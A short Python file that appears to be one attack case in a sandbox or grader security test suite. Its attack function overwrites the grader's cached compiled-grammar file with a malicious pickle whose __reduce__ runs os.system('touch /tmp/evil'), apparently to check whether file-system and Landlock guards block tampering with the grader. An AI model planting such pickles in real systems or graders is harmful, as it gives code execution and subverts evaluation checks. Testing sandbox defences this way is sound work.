"""Puts a pickle that runs code where the grader keeps its compiled grammar."""

GUARDS = ("files", "landlock")


import os
import pickle


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/evil",))


def attack(world):
    with open(world["grammar"], "wb") as file:
        pickle.dump(Evil(), file)
    return "poisoned"
